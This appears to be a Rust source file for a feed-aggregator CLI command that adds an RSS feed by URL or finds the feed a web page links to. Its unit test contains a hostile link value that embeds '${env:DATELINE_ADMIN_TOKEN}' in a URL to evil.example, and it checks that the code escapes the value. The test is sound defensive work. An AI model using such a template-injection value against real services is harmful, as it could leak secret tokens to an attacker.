//! `dateline feeds add`: a feed by its URL, or the one that a page points to.

use super::client::Service;
use anyhow::{Context as _, bail};
use connectors::discover::{Candidate, discover};
use connectors::format;
use connectors::source::http::{Client, Cursor, Fetch, Limits, Target};
use ipnet::IpNet;
use schemas::Dialect;
use serde_json::Value;
use std::io::Write;
use url::Url;

#[derive(clap::Args, Debug)]
#[command(after_help = "Examples:
  dateline feeds add https://feeds.example/world.rss --provider example-wire
  dateline feeds add https://example.org/ --yes     takes the first feed that the page names
  dateline feeds add http://10.1.2.3/feed --allow-network 10.1.0.0/16 --id intranet")]
pub struct Add {
    /// A feed, or a page that names one
    url: Url,
    /// Made of the URL unless given
    #[arg(long)]
    id: Option<String>,
    /// Whose stories these are; the id unless given
    #[arg(long)]
    provider: Option<String>,
    /// Time between polls, such as 15m; learned from the feed unless given
    #[arg(long)]
    interval: Option<String>,
    /// BCP 47, of stories that do not say for themselves
    #[arg(long)]
    language: Option<String>,
    /// What the feed already holds: publish or baseline
    #[arg(long)]
    first_poll: Option<String>,
    /// Private network that the feed may reach, as CIDR
    #[arg(long = "allow-network", value_name = "CIDR")]
    allow_networks: Vec<IpNet>,
    /// Take the first feed of a page without asking
    #[arg(long, short)]
    yes: bool,
    /// Add the URL as it is, without looking what is there
    #[arg(long)]
    unseen: bool,
}

/// Adds a feed; gives the service's answer.
pub async fn add(service: &Service, add: &Add) -> anyhow::Result<Value> {
    let url = if add.unseen { add.url.clone() } else { look(add).await? };
    service.post("/feeds", table(add, &url)).await
}

/// The URL itself where a feed is, else the one that the page there names.
async fn look(add: &Add) -> anyhow::Result<Url> {
    let client = Client::new(concat!("dateline/", env!("CARGO_PKG_VERSION")), Limits::default())?;
    let target = Target { allow_networks: add.allow_networks.clone(), ..Target::new(add.url.clone()) };
    let request = client.prepare(target)?;
    let payload = match client.fetch(&request, &Cursor::default()).await {
        Fetch::Payload { payload, .. } => payload,
        Fetch::Failed(error) => {
            bail!("{}: {}: {}; --unseen adds it all the same", add.url, error.kind.as_str(), error.detail)
        }
        Fetch::NotModified { .. } | Fetch::SameBody { .. } => bail!("{}: an answer to a question that was not asked", add.url),
    };
    let read = format::recognize(&payload.bytes).and_then(|format| (format.decode)(&payload.bytes, &Dialect::default()));
    if read.is_ok() {
        return Ok(add.url.clone());
    }
    let base = payload.base_url.as_deref().and_then(|base| base.parse().ok()).unwrap_or_else(|| add.url.clone());
    choose(&add.url, discover(&payload.bytes, None, &base), add.yes)
}

/// The only candidate, or the one that was chosen.
fn choose(page: &Url, candidates: Vec<Candidate>, yes: bool) -> anyhow::Result<Url> {
    let Some(first) = candidates.first() else {
        bail!("{page} is no feed and names none; give the feed's own URL");
    };
    let place = match (candidates.len(), yes, super::is_watched()) {
        (1, ..) | (_, true, _) => 0,
        (_, false, true) => ask(&candidates)?,
        (_, false, false) => {
            let found = candidates.iter().map(told).collect::<Vec<_>>().join("\n  ");
            bail!("{page} names several feeds; give one of them, or --yes for the first:\n  {found}");
        }
    };
    let chosen = candidates.get(place).unwrap_or(first);
    eprintln!("found {}", told(chosen));
    foreign(&chosen.url).parse().context("what the page names is no URL")
}

/// A URL that somebody else wrote: nothing in it is a reference to a variable or a file of the service.
pub fn foreign(url: &str) -> String {
    url.replace("${", "$%7B")
}

fn told(candidate: &Candidate) -> String {
    let title = candidate.title.as_deref().map(|title| format!("  ({})", crate::terminal::text(title)));
    crate::terminal::text(&candidate.url) + &title.unwrap_or_default()
}

fn ask(candidates: &[Candidate]) -> anyhow::Result<usize> {
    for (place, candidate) in candidates.iter().enumerate() {
        eprintln!("{:3}  {}", place + 1, told(candidate));
    }
    eprint!("which one? [1] ");
    std::io::stderr().flush()?;
    let mut answer = String::new();
    std::io::stdin().read_line(&mut answer)?;
    match answer.trim() {
        "" => Ok(0),
        number => match number.parse::<usize>() {
            Ok(number) if (1..=candidates.len()).contains(&number) => Ok(number - 1),
            _ => bail!("`{number}` is none of them; nothing was added"),
        },
    }
}

/// The `[[feed]]` table.
fn table(add: &Add, url: &Url) -> String {
    use toml::Value as V;
    let mut source = toml::Table::from_iter([("kind".into(), V::from("http")), ("url".into(), V::from(url.as_str()))]);
    let mut feed = toml::Table::new();
    feed.insert("id".into(), V::from(add.id.clone().unwrap_or_else(|| connectors::opml::id_of(url))));
    for (key, value) in [("provider", &add.provider), ("language", &add.language), ("first_poll", &add.first_poll)] {
        if let Some(value) = value {
            feed.insert(key.into(), V::from(value.as_str()));
        }
    }
    if let Some(interval) = &add.interval {
        source.insert("interval".into(), V::from(interval.as_str()));
    }
    if !add.allow_networks.is_empty() {
        let networks = add.allow_networks.iter().map(|network| V::from(network.to_string()));
        source.insert("allow_networks".into(), V::Array(networks.collect()));
    }
    feed.insert("source".into(), V::Table(source));
    super::list::tables(vec![feed])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn se_09_what_a_page_names_refers_to_nothing_of_the_service() {
        let page = "https://page.example/".parse().unwrap();
        let candidates = discover(
            b"<link rel=alternate type='application/rss+xml' href='https://evil.example/?x=${env:DATELINE_ADMIN_TOKEN}'>",
            None,
            &page,
        );
        let chosen = choose(&page, candidates, true).unwrap();
        assert!(!chosen.as_str().contains("${"), "{chosen}");
        assert_eq!(chosen.host_str(), Some("evil.example"));
    }
}
